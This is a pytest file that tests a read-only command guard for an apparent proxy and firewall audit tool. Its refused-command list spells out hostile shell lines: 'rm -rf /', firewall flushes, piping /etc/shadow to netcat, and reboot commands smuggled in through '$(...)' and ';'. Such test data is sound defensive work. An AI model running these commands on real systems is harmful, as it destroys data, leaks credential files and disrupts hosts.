import shlex

import pytest

from pushaudit.platforms import known_platforms, load_platform
from pushaudit.readonly import ReadOnlyViolation, check_read_only

ALLOWED = [
    "squid -v",
    "sudo -n nft -j list ruleset",
    "sudo -n iptables-legacy-save",
    "ip -j route show table all",
    "sysctl -n net.ipv4.ip_forward",
    "cat -- /etc/squid/squid.conf",
    shlex.join(["cat", "--", "/etc/squid/odd name; rm -rf /"]),
    shlex.join(["find", "/etc/squid/conf.d", "-maxdepth", "1", "-name", "*.conf",
                "(", "-type", "f", "-o", "-type", "l", ")"]),
    "dig +time=2 +tries=2 courier.push.apple.com A",
    shlex.join(["curl", "-sS", "-v", "-o", "/dev/null", "--max-time", "10", "--noproxy", "", "--proxy",
                "http://198.18.0.12:3128", "-k", "https://courier.push.apple.com:443/"]),
    shlex.join(["curl", "-sS", "--max-time", "10", "--noproxy", "*", "http://198.18.0.12/wpad.dat"]),
]

REFUSED = [
    "rm -rf /",
    "nft flush ruleset",
    "sudo -n nft add rule inet filter forward accept",
    "iptables -F",
    "cat -- /etc/passwd; rm -rf /",
    "cat /etc/shadow | nc 10.0.0.1 80",
    "squid -k reconfigure",
    "find /etc -maxdepth 1 -name x ( -type f -o -type l ) -delete",
    "curl -sS -o /tmp/x https://example.org/",
    "curl -sS --max-time 10 --noproxy * -d x=1 http://198.18.0.12/",
    "curl -sS --max-time 10 --noproxy * file:///etc/shadow",
    "curl -sS -v -o /dev/null -X DELETE https://example.org/",
    "sysctl -w net.ipv4.ip_forward=1",
    "cat -- $(reboot)",
    "dig +time=2 example.org A; reboot",
]


@pytest.mark.parametrize("command", ALLOWED)
def test_read_only_commands_pass(command: str) -> None:
    assert check_read_only(command)


@pytest.mark.parametrize("command", REFUSED)
def test_changing_commands_are_refused(command: str) -> None:
    with pytest.raises(ReadOnlyViolation):
        check_read_only(command)


def test_every_shipped_platform_command_is_read_only() -> None:
    for name in known_platforms():
        platform = load_platform(name)
        for line in [*platform.session_setup, *(spec.command for spec in platform.commands)]:
            platform.guard(line)


@pytest.mark.parametrize(
    "command",
    ["configure terminal", "show run | include x", "show version ; reload", "delete security policies",
     "clear counters", "set cli pager on", "show x | save /tmp/y"],
)
def test_vendor_cli_guard_refuses_changes(command: str) -> None:
    from pushaudit.readonly import check_vendor_read_only

    with pytest.raises(ReadOnlyViolation):
        check_vendor_read_only(command, ["show "])


def test_platform_files_name_only_known_collectors() -> None:
    from pushaudit.tasks.collectors import load_collectors

    registry = load_collectors()
    for name in known_platforms():
        for spec in load_platform(name).collectors:
            assert spec.name in registry, f"{name}.yaml names unknown collector {spec.name}"
